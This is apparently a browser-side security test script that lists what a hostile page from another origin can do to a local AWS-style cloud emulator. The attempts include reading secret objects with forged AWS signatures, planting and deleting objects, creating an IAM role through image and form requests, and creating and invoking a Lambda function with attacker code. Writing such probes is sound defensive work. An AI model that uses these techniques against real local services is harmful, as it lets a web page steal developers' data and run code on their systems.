// What a page of another origin tries on a local cloud. Each attempt says what it got; "" is nothing.
async (cloud) => {
  const day = new Date().toISOString().replace(/[-:]/g, "").slice(0, 8);
  const scope = (key, service) => `${key}/${day}/us-east-1/${service}/aws4_request`;
  const inQuery = (key, service) =>
    `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${encodeURIComponent(scope(key, service))}` +
    `&X-Amz-Date=${day}T000000Z&X-Amz-SignedHeaders=host&X-Amz-Expires=604800&X-Amz-Signature=0`;
  const inHeader = (key, service) => ({
    authorization: `AWS4-HMAC-SHA256 Credential=${scope(key, service)}, SignedHeaders=host, Signature=0`,
  });
  const code = {
    FunctionName: "mallory", Runtime: "python3.13", Handler: "index.handler", Timeout: 10,
    Role: "arn:aws:iam::000000000000:role/mallory", Code: { ZipFile: cloud.zip },
  };
  const blind = (path, body) =>
    fetch(cloud.url + path, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body });
  const load = (tag, path) =>
    new Promise((done) => {
      const element = document.createElement(tag);
      element.onload = () => done(`${tag} loaded`);
      element.onerror = () => done("");
      element.src = cloud.url + path;
      document.body.append(element);
    });
  const submit = (path, method, fields) =>
    new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.name = `frame-${Math.random()}`;
      document.body.append(frame);
      const form = Object.assign(document.createElement("form"), { method, action: cloud.url + path, target: frame.name });
      for (const [name, value] of Object.entries(fields))
        form.append(Object.assign(document.createElement("input"), { name, value }));
      document.body.append(form);
      frame.onload = () => done("");
      form.submit();
    });
  const read = (path, options = {}) => fetch(cloud.url + path, options).then(async (r) => (r.ok ? r.text() : ""));
  const trust = JSON.stringify({
    Statement: [{ Effect: "Allow", Action: "sts:AssumeRole", Principal: { Service: "lambda.amazonaws.com" } }],
  });
  const role = (name) => ({
    Action: "CreateRole", Version: "2010-05-08", RoleName: name, AssumeRolePolicyDocument: trust,
  });

  const attempts = {
    "read an object": () => read("/treasure/a/secret"),
    "read an object with the key test": () => read("/treasure/a/secret", { headers: inHeader("test", "s3") }),
    "list buckets with twelve digits": () => read("/", { headers: inHeader("000000000000", "s3") }),
    "read the health page": () => read("/_ministack/health"),
    "read the call log": () => read("/_localcloud/calls"),
    "show an image": () => load("img", "/treasure/picture.svg"),
    "show an image with a link signed by test": () => load("img", cloud.signed["picture.svg"]),
    "run a script with a link signed by test": () => load("script", cloud.signed["script.js"]).then(() => window.stolen),
    "read an object with a link signed by test": () => read(cloud.signed["a/secret"]),
    "put an object": () => read("/treasure/planted", { method: "PUT", body: "x" }).then(() => ""),
    "put an object without asking": () => blind(`/treasure/planted?${inQuery("test", "s3")}`, "x").then(() => ""),
    "delete an object": () => read("/treasure/a/secret", { method: "DELETE" }).then(() => ""),
    "create a role by a link": () =>
      load("img", `/?${new URLSearchParams(role("mallory"))}&${inQuery("test", "iam")}`).then(() => ""),
    "create a role by a form": () => submit(`/?${inQuery("000000000000", "iam")}`, "post", role("mallory-2")),
    "create a function": () =>
      blind(`/2015-03-31/functions?${inQuery("test", "lambda")}`, JSON.stringify(code)).then(() => ""),
    "create a function with a preflight": () =>
      read("/2015-03-31/functions", { method: "POST", headers: inHeader("test", "lambda"), body: JSON.stringify(code) }),
    "invoke it": () => blind(`/2015-03-31/functions/mallory/invocations?${inQuery("test", "lambda")}`, "{}").then(() => ""),
    "invoke it with a preflight": () =>
      read("/2015-03-31/functions/mallory/invocations", { method: "POST", headers: inHeader("test", "lambda"), body: "{}" }),
    "send a beacon": async () => (navigator.sendBeacon(`${cloud.url}/treasure/planted?${inQuery("test", "s3")}`, "x"), ""),
    "open a web socket": () =>
      new Promise((done) => {
        const socket = new WebSocket(cloud.url.replace("http", "ws") + "/_aws/execute-api/x/v1");
        socket.onopen = () => done("web socket open");
        socket.onerror = () => done("");
      }),
  };

  const found = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      found[name] = await attempt();
    } catch {
      found[name] = "";
    }
  }
  return found;
}
